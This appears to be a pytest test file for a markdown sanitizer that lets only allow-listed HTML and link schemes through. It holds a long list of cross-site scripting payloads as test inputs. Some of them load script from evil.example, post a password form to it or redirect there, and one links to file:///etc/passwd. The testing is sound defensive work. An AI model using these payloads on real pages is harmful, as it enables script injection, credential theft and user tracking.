"""Descriptions are written by people and pasted from anywhere: what comes out is an allow-list."""

import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notes import markdown
from notes.markdown import render

VOID = {"br", "hr"}
TAGS = VOID | {
    *("h3", "h4", "h5", "h6", "p", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("table", "thead", "tbody", "tr", "th", "td", "em", "strong", "s", "a"),
}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
}
CLASSES = {"align-left", "align-center", "align-right"}
REL = 'rel="noopener noreferrer nofollow"'

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<!-- --!><script>alert(1)</script>",
    "<?php echo 1 ?>\n\n<![CDATA[<script>alert(1)</script>]]>",
    "</p></main><form action=//evil.example><input name=password>",
    "<base href=//evil.example>\n<meta http-equiv=refresh content='0;//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<  javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:https://example.org/)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<JAVASCRIPT:alert`1`>",
    "[x]: javascript:alert(1)\n\n[x] [x][x]",
    "![x](javascript:alert(1))",
    "![x](//evil.example/tracker.gif)",
    '![x" onerror="alert(1)](x)',
    '[x](http://example.org "\\"onmouseover=alert(1) ")',
    '[x](http://example.org/"onmouseover="alert(1))',
    "[x](http://example.org '\"><script>alert(1)</script>')",
    "[<script>alert(1)</script>](http://example.org)",
    "[`<script>`](http://example.org)",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "|<b>x</b>|y|\n|:-:|-:|\n|<script>alert(1)</script>|`</td>`|",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "*<b*onclick=alert(1)*>*",
    '<http://example.org/"onclick=alert(1)>',
    '<a@example.org"onclick=alert(1)>',
    "> - 1. # <script>alert(1)</script>",
]


class Allowed(HTMLParser):
    """Fails at whatever is on no list, and at a tag that is not closed."""

    def __init__(self):
        super().__init__()
        self.open = []
        self.links = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set())
        assert attributes.get("class", "align-left") in CLASSES
        assert attributes.get("start", "1").isdecimal()
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            self.links.append(attributes["href"])
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag not in VOID:
            assert self.open.pop() == tag

    def handle_comment(self, data):
        pytest.fail("a comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(html):
    """Return the addresses of the links; fail where the HTML has what no list allows."""
    reader = Allowed()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    for address in reader.links:
        # As a browser reads it: blanks around it and line breaks in it count for nothing.
        scheme, colon, _ = address.partition(":")
        is_relative = not colon or set(scheme) & set("/?#")
        assert is_relative or scheme.lower() in {"http", "https", "mailto"}
        assert address.isascii()
        assert address.isprintable()
        assert not set(address) & set(' "<>\\')
    return reader.links


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_comes_out_that_no_list_allows(attack):
    read(render(attack))


PIECES = [*"[]()<>!*_`~|#&;:\\\"'\n -=1.", "javascript:", "&#106;", "http://a", "é", "\x00", "x"]


@given(st.one_of(st.text(), st.lists(st.sampled_from([*PIECES, *ATTACKS])).map("".join)))
def test_whatever_is_written_comes_out_as_allowed(text):
    read(render(text))


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[a](http://example.org/?q=a:b#c)", "http://example.org/?q=a:b#c"),
        ("[a](HTTPS://example.org)", "HTTPS://example.org"),
        ("<https://example.org>", "https://example.org"),
        ("<ann@example.org>", "mailto:ann@example.org"),
        ("[a](mailto:ann@example.org)", "mailto:ann@example.org"),
        ("[a](/ports/atlas/tcp/22/)", "/ports/atlas/tcp/22/"),
        ("[a](../a:b)", "../a:b"),
        ("[a](?state=ghost:x)", "?state=ghost:x"),
        ("[a](#a:b)", "#a:b"),
        ("[a](wiki.html)", "wiki.html"),
    ],
)
def test_a_link_to_the_web_to_mail_or_within_the_site_passes(text, address):
    assert read(render(text)) == [address]


def test_what_is_no_link_is_shown_as_it_was_written():
    assert render("[x](javascript:alert)") == "<p>[x](javascript:alert)</p>\n"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# One", "<h3>One</h3>"),
        ("Two\n---", "<h4>Two</h4>"),
        ("#### Four", "<h6>Four</h6>"),
        ("###### Six", "<h6>Six</h6>"),
    ],
)
def test_headings_fit_under_those_of_the_page(text, html):
    assert render(text) == f"{html}\n"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("![plan](/plan.png)", f'<a href="/plan.png" {REL}>plan</a>'),
        ("see ![plan](/plan.png)", f'see <a href="/plan.png" {REL}>plan</a>'),
        (r"look\![here](/x)", f'look!<a href="/x" {REL}>here</a>'),
        ("![](/plan.png)", f'<a href="/plan.png" {REL}>/plan.png</a>'),
        ("[ ](/a) [](/b)", f'<a href="/a" {REL}>/a </a> <a href="/b" {REL}>/b</a>'),
    ],
)
def test_an_image_becomes_a_link_and_each_link_can_be_read(text, html):
    assert render(text) == f"<p>{html}</p>\n"


def test_a_table_is_aligned_by_classes():
    html = render("|a|b|c|d|\n|-|:-|:-:|-:|\n|1|2|3|~~4~~|")

    assert '<td>1</td>\n<td class="align-left">2</td>\n<td class="align-center">3</td>' in html
    assert '<td class="align-right"><s>4</s></td>' in html


def test_a_code_block_has_no_class_of_the_writers_choice():
    assert render("```card\nx\n```") == "<pre><code>x\n</code></pre>\n"


def test_a_long_text_is_cut_and_says_so():
    whole = render("x" * markdown.LIMIT)
    cut = render("x" * markdown.LIMIT + "y")

    assert whole == f"<p>{'x' * markdown.LIMIT}</p>\n"
    assert cut == f"{whole}<p>… The rest is cut: 20000 characters are shown.</p>\n"


@pytest.mark.parametrize("mark", [">", "- ", "1. ", "> * "])
def test_what_lies_too_deep_is_shown_plainly_and_never_lost(mark):
    text = mark * 100 + "<b>treasure"

    html = render(text)

    assert html.endswith("&lt;b&gt;treasure</pre>\n")
    assert read(html) == []


def test_six_lists_in_each_other_are_not_too_deep():
    html = render("- - - - - a\n          - b")

    assert html.count("<ul>") == 6


def test_a_short_text_makes_no_long_page():
    """A table is filled up to the width of its head; a reference repeats an address."""
    table = "|a" * 180 + "\n" + "|-" * 180 + "\n" + "a\n" * 364 + "\n"
    references = f"[a]: /{'x' * 8000}\n\n" + "[a] " * 2000

    assert render(table * 13).count("<td") <= markdown.CELLS
    assert len(render(references)) < 2 * markdown.LIMIT


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "*",
        "_",
        "`",
        ">",
        "![",
        "[a](",
        "<a",
        "**a ",
        "*a **b ",
        "> - ",
        "- a\n",
        "a|",
        "&",
        "~~",
    ],
)
def test_the_longest_text_of_one_piece_is_rendered(piece):
    """That none of it takes explosive time is measured; here it would hang the tests."""
    read(render(piece * (markdown.LIMIT // len(piece))))


def test_a_worker_that_shows_no_note_does_not_load_the_parser():
    code = "import sys, notes.markdown; print('markdown_it' in sys.modules)"

    output = subprocess.check_output([sys.executable, "-c", code], text=True)  # noqa: S603  # ours

    assert output == "False\n"
